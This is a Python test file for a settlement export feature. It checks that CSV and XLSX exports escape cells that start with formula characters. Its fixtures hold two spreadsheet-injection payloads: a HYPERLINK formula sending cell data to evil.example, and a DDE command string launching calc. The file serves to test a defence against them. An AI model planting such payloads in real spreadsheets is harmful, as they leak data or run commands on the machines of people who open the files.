"""Spreadsheet exports never write a name as a formula: CSV text cells starting with = + - @ get an
apostrophe, XLSX stores them as text (the settlement is the export; core.reports holds the one helper)."""
from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from core.db import commit, db
from core.catalogue.models import Producer
from core.reports import append_row, csv_bytes, safe_text
from test_sales_points_settlement import period, settle  # noqa: F401

EVIL_PRODUCER = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")'
EVIL_PRODUCT = "@SUM(1+1)*cmd|' /C calc'!A0"


def test_the_helper_escapes_formula_text_only():
    assert [safe_text(v) for v in ("=1+1", "+84 912", "-5", "@x", "\t=1", "Bưởi", 5, -5, None)] == [
        "'=1+1", "'+84 912", "'-5", "'@x", "'\t=1", "Bưởi", 5, -5, None]
    rows = list(csv.reader(io.StringIO(csv_bytes([["=1+1", 2]]).decode("utf-8-sig"))))
    assert rows == [["'=1+1", "2"]]
    from openpyxl import Workbook
    sheet = Workbook().active
    append_row(sheet, ["=1+1", 3, "ok"])
    assert [(c.value, c.data_type) for c in sheet[1]] == [("=1+1", "s"), (3, "n"), ("ok", "s")]


def test_settlement_exports_write_no_formula(period):  # noqa: F811
    sp = period
    db.session.get(Producer, sp.producer).name = EVIL_PRODUCER
    variant = sp.variant("BL-BDX-1")
    variant.product.name = EVIL_PRODUCT
    variant.name = "-1+2"
    commit()
    text = settle(sp, sp.op_a, format="csv").data.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + EVIL_PRODUCER in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@") or (cell[:1] == "-" and not cell[1:].isdigit())]
    workbook = load_workbook(io.BytesIO(settle(sp, sp.op_a, format="xlsx").data))
    sheet = workbook.active
    texts = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert EVIL_PRODUCER in [cell.value for cell in texts]
    assert not [cell.coordinate for cell in texts if cell.data_type == "f"]
